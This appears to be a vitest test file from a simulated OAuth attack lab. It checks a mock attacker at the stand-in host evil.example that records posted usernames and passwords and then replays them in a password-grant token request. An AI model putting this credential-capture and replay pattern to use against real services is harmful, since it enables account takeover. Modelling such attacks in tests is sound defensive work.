import { expect, test } from "vitest";
import { attackerMemory, lanes } from "../../cast/cast";
import { parsePairs } from "../../http/form";
import { get, post } from "../../http/message";
import { API, ISSUER, startBench, withLevels } from "../../testing/bench";
import { seeded } from "../../world/dice";
import { recall } from "../../world/world";
import { createNetwork } from "../network";
import { stolenPasswordRequest } from "./password";

const lane = { ...lanes.attacker, base: "https://evil.example" };

async function start(memory: { readonly recordsForms?: true } = { recordsForms: true }, aud: "off" | "on" = "off") {
	const settings = withLevels({ aud });
	const { world } = await startBench(settings);
	world.memory.attacker = { ...attackerMemory(), ...memory };
	const network = createNetwork([lane], world, settings, seeded(world, settings.seed));
	const send = async (body: string) => (await network.deliver(post("https://evil.example/record", body))).response;
	return { send, network, at: network.contextOf(lane), kept: () => recall(world, "attacker", "attacker").credentials };
}

test("keeps name and password of the last form that reached it, and answers nothing", async () => {
	const { send, kept } = await start();
	expect(await send("username=ada&password=correct+house")).toEqual({ status: 204, headers: [], body: "" });
	await send("username=ada&password=correct+horse&more=x");
	expect(kept()).toEqual({ username: "ada", password: "correct horse" });
});

test.each(["", "username=ada", "password=x", "username=ada&password="])("keeps nothing of %j", async (form) => {
	const { send, kept } = await start();
	await send(form);
	expect(kept()).toBeUndefined();
});

test("takes forms alone, and only where the attacker has such a service", async () => {
	const { network } = await start();
	expect((await network.deliver(get("https://evil.example/record"))).response.status).toBe(405);
	const { send, kept } = await start({});
	expect([(await send("username=ada&password=x")).status, kept()]).toEqual([0, undefined]);
});

test.each(["off", "on"] as const)(
	"with the audience %s, its token request is a public client's, without a scope",
	async (aud) => {
		const { send, at } = await start({ recordsForms: true }, aud);
		await send("username=ada&password=correct+horse");
		const known = { tokenEndpoint: `${ISSUER}/token`, clientId: "photo-print", resource: API };
		expect(parsePairs(stolenPasswordRequest(at, known).body)).toEqual([
			["grant_type", "password"],
			["username", "ada"],
			["password", "correct horse"],
			["client_id", "photo-print"],
			...(aud === "on" ? [["resource", API]] : []),
		]);
	},
);
